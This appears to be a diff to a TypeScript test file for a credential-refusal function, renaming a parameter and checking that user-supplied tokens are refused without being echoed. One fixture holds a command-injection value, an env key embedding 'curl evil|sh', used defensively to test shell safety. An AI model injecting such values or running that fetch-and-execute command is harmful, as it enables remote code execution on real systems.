@@ -57,7 +57,7 @@ describe('credentials in what somebody gives', () => {
 
   it('puts nothing into a line for a shell that was given by somebody', () => {
     const given = { env: { 'X;curl evil|sh;TOKEN': `ghp_${A}` } };
-    const refusal = () => refuseCredentials('a;reboot;', given, { place: 'cluster', secretsLocation: 'mcp' });
+    const refusal = () => refuseCredentials('a;reboot;', given, { kind: 'cluster', secretsLocation: 'mcp' });
     expect(refusal)
       .to.throw(UserError)
       .with.property('hint')
@@ -102,9 +102,9 @@ describe('credentials in what somebody gives', () => {
 
   it('are refused with the way to do it right, and without being repeated', () => {
     const secret = `ghp_${A}`;
-    const refusal = (place: 'folder' | 'cluster') => {
+    const refusal = (kind: 'folder' | 'cluster') => {
       try {
-        refuseCredentials('github', { env: { GITHUB_TOKEN: secret } }, { place, secretsLocation: 'mcp' });
+        refuseCredentials('github', { env: { GITHUB_TOKEN: secret } }, { kind, secretsLocation: 'mcp' });
       } catch (error) {
         if (error instanceof UserError) return error;
       }
@@ -118,8 +118,8 @@ describe('credentials in what somebody gives', () => {
       'secretEnv {"GITHUB_TOKEN": {"name": "github-credentials", "key": "GITHUB_TOKEN"}}',
     );
     expect(refusal('folder').hint).to.include('upstreamAuth {"type": "bearer", "file":').and.not.include('secretEnv');
-    for (const place of ['folder', 'cluster'] as const) {
-      expect(`${refusal(place).message}${refusal(place).hint}`).to.not.include(secret);
+    for (const kind of ['folder', 'cluster'] as const) {
+      expect(`${refusal(kind).message}${refusal(kind).hint}`).to.not.include(secret);
     }
   });
 
